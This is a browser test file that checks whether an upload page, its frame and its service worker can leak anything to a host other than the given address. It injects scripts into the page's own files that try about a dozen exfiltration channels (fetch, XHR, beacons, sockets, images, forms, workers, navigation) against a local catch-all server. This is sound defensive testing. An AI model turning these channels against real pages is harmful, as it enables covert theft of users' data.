// What the page that uploads lets out: bytes of the protected file, to the address that was given, and nothing else.

import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { inEachBrowser } from './browser.mjs';
import { choose, paste, pressUpload, withStorage } from './support-publish.mjs';
import { LONG, siteCopy, triedAgain } from './support.mjs';

const own = withStorage();

/** Everything that a script in one of these contexts might try, to a place that must hear of nothing. */
const attempts = (to) => `
;(() => {
  const form = (target) => {
    const made = Object.assign(document.createElement('form'), { action: '${to}/form', method: 'post', target });
    document.body.append(made);
    made.submit();
  };
  const tries = [
    () => fetch('${to}/fetch', { mode: 'no-cors' }).catch(() => {}),
    () => { const x = new XMLHttpRequest(); x.open('POST', '${to}/xhr'); x.send('bytes'); },
    () => navigator.sendBeacon('${to}/beacon', 'bytes'),
    () => new WebSocket('${to.replace('http', 'ws')}/socket'),
    () => new EventSource('${to}/events'),
    () => importScripts('${to}/import.js'),
    () => caches.open('x').then((cache) => cache.add('${to}/cache')).catch(() => {}),
    () => { new Image().src = '${to}/image.png'; },
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: '${to}/frame' })),
    () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${to}/style' })),
    () => form('_blank'),
    () => new Worker(URL.createObjectURL(new Blob(["fetch('${to}/worker', { mode: 'no-cors' })"]))),
  ];
  const all = (list) => { for (const attempt of list) try { attempt(); } catch {} };
  all(tries);
  // These may end what they are tried from: when the upload is done.
  if (self.parent && self.parent !== self)
    new BroadcastChannel('now').onmessage = () =>
      all([
        () => window.open('${to}/open'),
        () => form('_top'),
        () => form('_self'),
        () => void (top.location.href = '${to}/top'),
        () => void (location.href = '${to}/location'),
      ]);
})();
`;

/** A place outside that counts what comes, whatever it says. */
async function outside() {
  const arrived = [];
  const server = createServer((socket) => {
    socket.on('error', () => {});
    socket.once('data', (data) => arrived.push(data.toString('latin1').split('\r\n')[0]));
    setTimeout(() => socket.destroy(), 300);
  });
  await new Promise((resolve) => void server.listen(0, '127.0.0.1', resolve));
  return { origin: `http://127.0.0.1:${server.address().port}`, arrived, close: () => server.close() };
}

const PARTS = ['publish/page.js', 'publish/courier.js', 'publish/publish-worker.js'];
const guarded = siteCopy();
const clean = Object.fromEntries(PARTS.map((part) => [part, readFileSync(guarded.path(part), 'utf8')]));

inEachBrowser(
  (browser) => {
    /** Uploads with a script in each context that tries to reach another place, and gives what arrived there. */
    const leak = async (where, parts, to) => {
      const place = await outside();
      for (const part of PARTS) {
        const text = parts.includes(part) ? attempts(`${to ?? place.origin}/${part.split('/')[1]}`) : '';
        writeFileSync(guarded.path(part), where === 'first' ? text + clean[part] : clean[part] + text);
      }
      own.front.play = () => undefined;
      await own.storage.cors();
      browser.site.beyond.add(own.front.origin);
      const page = await browser.newPage();
      try {
        await page.goto('/publish.html');
        await page.waitFor('#choose-file');
        await own.files(page);
        await choose(page, own.small);
        await paste(page, own.address());
        await page.fill('[name="name"]', `${browser.name} guarded.mp4`);
        await pressUpload(page);
        // A script that broke what it came into may have ended the upload too.
        await page.waitFor(
          () => document.querySelector('#done-url') || document.querySelector('.upload-outcome .notice'),
          {
            timeout: LONG,
          },
        );
        const finished = await page.evaluate(() => Boolean(document.querySelector('#done-url')));
        await page.evaluate(() => new BroadcastChannel('now').postMessage(null));
        await sleep(1500);
        // It leads this tab nowhere either.
        assert.equal(await page.evaluate(() => location.pathname), '/publish.html');
        const host = new URL(place.origin).host;
        const atProxy = browser.site.requests.filter((url) => new URL(url).host === host);
        return { arrived: [...place.arrived, ...atProxy], finished };
      } finally {
        await page.close();
        place.close();
      }
    };

    test('nothing that the page, its frame or its service worker try arrives anywhere but at the address given', (context) =>
      triedAgain(browser, context, async () => {
        const { arrived, finished } = await leak('last', PARTS);
        assert.deepEqual(arrived, []);
        assert.ok(finished);
      }));

    test('where there are no service workers, the page says so, and has the script', (context) =>
      triedAgain(browser, context, async () => {
        for (const part of PARTS) writeFileSync(guarded.path(part), clean[part]);
        const without = 'delete Navigator.prototype.serviceWorker;';
        writeFileSync(guarded.path('publish/page.js'), without + clean['publish/page.js']);
        const page = await browser.newPage();
        try {
          await page.goto('/publish.html');
          await page.waitFor('.command');
          assert.match(await page.text('.upload-step'), /no service workers.*or the script below/s);
          assert.equal(await page.evaluate(() => document.querySelector('#upload').disabled), true);
          assert.match(await page.text('.script-step'), /azcopy/);
        } finally {
          await page.close();
        }
      }));

    test('the frame reaches the address that was given by the same ways', (context) =>
      triedAgain(browser, context, async () => {
        const before = own.front.requests.length;
        await leak('last', ['publish/courier.js'], own.front.origin);
        const found = own.front.requests.slice(before).map(({ url }) => url.pathname);
        assert.ok(found.includes('/courier.js/fetch') && found.includes('/courier.js/xhr'), `${found}`);
      }));

    test('a service worker with its ways out would let it through: the test above sees it', (context) =>
      triedAgain(browser, context, async () => {
        const { arrived } = await leak('first', ['publish/publish-worker.js']);
        assert.ok(
          arrived.some((line) => /publish-worker\.js\/fetch/.test(line)),
          `${arrived}`,
        );
      }));
  },
  { root: guarded.root },
);
